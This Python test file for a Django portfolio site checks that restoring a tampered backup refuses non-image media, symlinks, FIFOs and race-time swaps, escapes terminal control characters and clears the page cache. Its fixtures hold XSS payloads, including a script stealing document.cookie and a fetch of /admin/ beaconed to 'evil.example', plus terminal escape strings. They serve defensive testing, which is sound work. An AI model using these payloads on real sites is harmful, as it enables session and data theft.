"""A tampered backup, restored: nothing runs from the site's origin, nothing outside leaks in, nothing reaches the
terminal raw, and no page from before the restore is served from the cache.

Checksums catch damage, not tampering: whoever writes a backup can write its manifest too. So the attacker here
always lists their files with correct sizes and checksums, and the defences must hold anyway (docs/SECURITY.md).
"""

import hashlib
import io
import json
import os
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from PIL import Image

from models_showcase import rendering
from models_showcase.models import ModelCard
from portfolio import backup as backup_module
from portfolio.backup import MANIFEST_NAME, BackupError, create_backup, printable, restore_backup
from portfolio.backup import restore as backup_restore
from portfolio.models import Profile
from tests.builders import Terminal, make_card, make_profile

pytestmark = pytest.mark.django_db(transaction=True)

SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
JS = b"fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))"
# What a terminal must never receive from a manifest: a colour, a retitle, a screen clear, a bidi override.
ESCAPES = ["\x1b[31mred\x1b[0m", "\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "\u202eexe.txt", "\x9b31m", "line\rover"]


def image_bytes(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


@pytest.fixture
def backups(tmp_path) -> Path:
    return tmp_path / "backups"


@pytest.fixture
def backup(media_root, backups):
    make_profile(bio="백업 때의 소개")
    make_card("someone/in-the-backup", title="백업 속 카드")
    (media_root / "covers").mkdir(parents=True)
    (media_root / "covers" / "cover.png").write_bytes(image_bytes("PNG"))
    return create_backup(output_dir=backups)


def manifest_of(folder: Path) -> dict:
    return json.loads((folder / MANIFEST_NAME).read_text("utf-8"))


def write_manifest(folder: Path, manifest: dict) -> None:
    (folder / MANIFEST_NAME).write_text(json.dumps(manifest, ensure_ascii=False), "utf-8")


def smuggle(folder: Path, name: str, data: bytes) -> None:
    """Add a file to the backup and list it with its true size and checksum, as an attacker would."""
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)
    manifest = manifest_of(folder)
    manifest["files"].append({"path": name, "size": len(data), "sha256": hashlib.sha256(data).hexdigest()})
    write_manifest(folder, manifest)


def assert_untouched(media_root: Path) -> None:
    assert Profile.objects.get().bio == "지금의 소개"
    assert (media_root / "now.png").exists()
    assert not list(media_root.parent.glob("*.before-restore-*"))
    assert not list(media_root.parent.glob("*.restoring-*"))


@pytest.fixture
def changed(backup, media_root):
    Profile.objects.update(bio="지금의 소개")
    (media_root / "now.png").write_bytes(image_bytes("PNG"))
    return backup


# ---- Serving: only the images uploads produce, by name and by content


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("evil.html", HTML),
        ("evil.htm", HTML),
        ("evil.svg", SVG),
        ("evil.js", JS),
        ("evil.mjs", JS),
        ("evil.css", b"body{}"),
        ("evil.xml", b"<?xml version='1.0'?><x/>"),
        ("evil.txt", b"text"),
        ("noextension", image_bytes("PNG")),
        ("evil.png", SVG),  # an image's name, script inside
        ("evil.png", HTML),
        ("evil.gif", b"GIF8" + HTML),  # almost a GIF's signature
        ("photo.jpg", image_bytes("PNG")),  # an image, but not the one its name says
        ("photo.webp", image_bytes("GIF")),
        ("photo.avif", image_bytes("JPEG")),
    ],
)
def test_media_serves_nothing_but_the_image_its_name_says(client, media_root, name, data):
    media_root.mkdir(parents=True, exist_ok=True)
    (media_root / name).write_bytes(data)

    response = client.get(f"/media/{name}")

    assert response.status_code == 404
    assert b"alert" not in response.content


@pytest.mark.parametrize(
    ("name", "fmt", "content_type"),
    [
        ("a.png", "PNG", "image/png"),
        ("a.jpg", "JPEG", "image/jpeg"),
        ("a.JPEG", "JPEG", "image/jpeg"),
        ("a.webp", "WEBP", "image/webp"),
        ("a.gif", "GIF", "image/gif"),
        ("covers/a.avif", "AVIF", "image/avif"),
    ],
)
def test_media_serves_the_images_uploads_produce(client, media_root, name, fmt, content_type):
    data = image_bytes(fmt)
    (media_root / name).parent.mkdir(parents=True, exist_ok=True)
    (media_root / name).write_bytes(data)

    response = client.get(f"/media/{name}")

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == data
    assert client.get(f"/media/{name}", HTTP_IF_MODIFIED_SINCE=response["Last-Modified"]).status_code == 304


def test_media_follows_no_link(client, media_root, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "private.png").write_bytes(image_bytes("PNG"))
    media_root.mkdir(parents=True)
    (media_root / "link.png").symlink_to(outside / "private.png")
    (media_root / "folder").symlink_to(outside, target_is_directory=True)
    (media_root / "dir.png").mkdir()

    for path in ["link.png", "folder/private.png", "dir.png", "../outside/private.png", "%2e%2e/outside/private.png"]:
        assert client.get(f"/media/{path}").status_code == 404, path


def test_media_root_may_itself_be_a_link(client, settings, tmp_path):
    real = tmp_path / "mounted"
    (real / "covers").mkdir(parents=True)
    (real / "covers" / "a.png").write_bytes(image_bytes("PNG"))
    (tmp_path / "media-link").symlink_to(real, target_is_directory=True)
    settings.MEDIA_ROOT = tmp_path / "media-link"

    assert client.get("/media/covers/a.png").status_code == 200


# ---- Restoring: no file that is not an image, no link, nothing swapped after the check


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("media/evil.html", HTML),
        ("media/evil.svg", SVG),
        ("media/evil.js", JS),
        ("media/markdown/evil.png", SCRIPT),
        ("media/covers/evil.jpg", image_bytes("PNG")),
        ("media/.htaccess", b"AddType text/html .png"),
    ],
)
def test_a_backup_with_a_file_that_is_not_an_image_is_refused(changed, media_root, name, data):
    smuggle(changed.path, name, data)

    with pytest.raises(BackupError, match="not an image uploads produce") as error:
        restore_backup(changed.path)

    assert name in str(error.value)
    assert_untouched(media_root)
    assert not (media_root / Path(name).name).exists()


@pytest.mark.parametrize("where", ["file", "folder", "media folder"])
def test_a_backup_with_a_link_is_refused(changed, media_root, tmp_path, where):
    outside = tmp_path / "outside"
    (outside / "covers").mkdir(parents=True)
    (outside / "covers" / "cover.png").write_bytes((changed.path / "media/covers/cover.png").read_bytes())
    (outside / "secret.png").write_bytes(image_bytes("PNG"))
    media = changed.path / "media"
    if where == "file":
        (media / "covers" / "cover.png").unlink()
        (media / "covers" / "cover.png").symlink_to(outside / "covers" / "cover.png")
    elif where == "folder":
        os.rename(media / "covers", tmp_path / "moved")
        (media / "covers").symlink_to(outside / "covers", target_is_directory=True)
    else:
        os.rename(media, tmp_path / "moved")
        media.symlink_to(outside, target_is_directory=True)

    with pytest.raises(BackupError, match="symbolic link"):
        restore_backup(changed.path)

    assert_untouched(media_root)


@pytest.mark.parametrize("swap", ["file for a link", "folder for a link", "media folder for a link", "content"])
def test_a_file_swapped_after_the_check_is_not_restored(changed, media_root, tmp_path, monkeypatch, swap):
    """The race the issue found: between verify_backup's checksums and the copy, the file becomes something else."""
    outside = tmp_path / "outside"
    (outside / "covers").mkdir(parents=True)
    (outside / "covers" / "cover.png").write_bytes(image_bytes("PNG") + b"outside the backup")
    media = changed.path / "media"
    checked = backup_module.check_restorable

    def check_then_swap(path):
        manifest = checked(path)
        if swap == "file for a link":
            (media / "covers" / "cover.png").unlink()
            (media / "covers" / "cover.png").symlink_to(outside / "covers" / "cover.png")
        elif swap == "folder for a link":
            os.rename(media / "covers", tmp_path / "moved")
            (media / "covers").symlink_to(outside / "covers", target_is_directory=True)
        elif swap == "media folder for a link":
            os.rename(media, tmp_path / "moved")
            media.symlink_to(outside, target_is_directory=True)
        else:
            (media / "covers" / "cover.png").write_bytes(image_bytes("PNG") + b"swapped")
        return manifest

    monkeypatch.setattr(backup_restore, "check_restorable", check_then_swap)

    with pytest.raises(BackupError, match=r"symbolic link|changed while it was restored"):
        restore_backup(changed.path)

    assert_untouched(media_root)
    assert not any(b"outside the backup" in file.read_bytes() for file in media_root.rglob("*") if file.is_file())


def test_a_fifo_in_a_backup_does_not_hang_the_restore(changed, media_root):
    media = changed.path / "media" / "covers"
    (media / "cover.png").unlink()
    os.mkfifo(media / "cover.png")

    with pytest.raises(BackupError, match="not a regular file"):
        restore_backup(changed.path)
    assert_untouched(media_root)


def test_backup_leaves_out_links_and_files_that_are_not_images(media_root, backups, tmp_path):
    make_profile()
    (tmp_path / "secret.png").write_bytes(image_bytes("PNG"))
    (media_root / "covers").mkdir(parents=True)
    (media_root / "covers" / "a.webp").write_bytes(image_bytes("WEBP"))
    (media_root / "covers" / "link.png").symlink_to(tmp_path / "secret.png")
    (media_root / "stray.html").write_bytes(HTML)
    (media_root / "folder-link").symlink_to(tmp_path, target_is_directory=True)
    out = io.StringIO()

    call_command("backup", "--output", str(backups), stdout=out)

    [folder] = backups.iterdir()
    listed = [entry["path"] for entry in manifest_of(folder)["files"] if entry["path"].startswith("media/")]
    assert listed == ["media/covers/a.webp"]
    assert "Left out 3 files" in out.getvalue()
    for name in ("covers/link.png", "stray.html", "folder-link"):
        assert name in out.getvalue()
    restore_backup(folder)  # what a backup holds, a restore accepts
    assert sorted(p.relative_to(media_root).as_posix() for p in media_root.rglob("*")) == ["covers", "covers/a.webp"]


# ---- The terminal: manifest text is printed escaped


def no_control_characters(text: str) -> bool:
    return not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", text)


@pytest.mark.parametrize("escape", ESCAPES)
def test_the_creation_time_is_printed_escaped(changed, escape):
    manifest = manifest_of(changed.path)
    manifest["created_at"] = f"2026-11-26T17:30:00Z{escape}"
    write_manifest(changed.path, manifest)

    out = io.StringIO()
    with pytest.raises(CommandError, match="not confirmed"):
        call_command("restore", str(changed.path), stdin=Terminal("no\n"), stdout=out)
    assert no_control_characters(out.getvalue().replace("\n", ""))
    assert printable(escape) in out.getvalue()

    out = io.StringIO()
    call_command("restore", str(changed.path), "--yes", stdout=out)
    assert no_control_characters(out.getvalue().replace("\n", ""))
    assert printable(escape) in out.getvalue()


@pytest.mark.parametrize("escape", ESCAPES)
@pytest.mark.parametrize("field", ["vendor", "format", "file path", "file entry", "database file", "backup folder"])
def test_manifest_fields_in_error_messages_are_escaped(changed, backups, escape, field):
    folder = changed.path
    manifest = manifest_of(folder)
    if field == "vendor":
        manifest["database"]["vendor"] = f"oracle{escape}"
    elif field == "format":
        manifest["format"] = f"1{escape}"
    elif field == "file path":
        manifest["files"].append({"path": f"media/a{escape}.png", "size": 1, "sha256": "0" * 64})
    elif field == "file entry":
        manifest["files"][0]["size"] = f"1{escape}"
    elif field == "database file":
        manifest["database"]["file"] = f"db{escape}.sqlite3"
    else:
        folder = folder.rename(backups / f"backup{escape}")
        (folder / "media" / "covers" / "cover.png").write_bytes(b"damaged")
    write_manifest(folder, manifest)

    with pytest.raises(CommandError) as error:
        call_command("restore", str(folder), "--yes", stdout=io.StringIO())

    assert no_control_characters(str(error.value).replace("\n", ""))
    if field in ("vendor", "format", "file path", "backup folder"):
        assert printable(escape) in str(error.value)


# ---- The page cache: nothing from before the restore


def test_restore_drops_cached_pages_and_renders_the_cards_again(changed, client, monkeypatch):
    later = make_card("someone/after-the-backup", title="백업 뒤의 카드", is_published=True)
    page = client.get("/").content.decode()
    assert "백업 뒤의 카드" in page and "백업 속 카드" in page
    assert "백업 뒤의 카드" in client.get("/").content.decode()  # now served from the cache
    rendered = []
    real_refresh = rendering.refresh_card_html
    monkeypatch.setattr(rendering, "refresh_card_html", lambda ids: rendered.append(sorted(ids)) or real_refresh(ids))

    restore_backup(changed.path)

    page = client.get("/").content.decode()
    assert "백업 뒤의 카드" not in page
    assert "백업 속 카드" in page
    assert rendered == [sorted(ModelCard.objects.values_list("pk", flat=True))]
    assert client.get(later.get_absolute_url()).status_code == 404


def test_restore_drops_cached_pages_even_with_migrations_pending(changed, client, monkeypatch):
    make_card("someone/after-the-backup", title="백업 뒤의 카드")
    assert "백업 뒤의 카드" in client.get("/").content.decode()
    monkeypatch.setattr(backup_restore, "_pending_migrations", lambda: ("portfolio.9999_future",))
    out = io.StringIO()

    call_command("restore", str(changed.path), "--yes", stdout=out)

    assert "백업 뒤의 카드" not in client.get("/").content.decode()
    assert "render_cards" in out.getvalue()
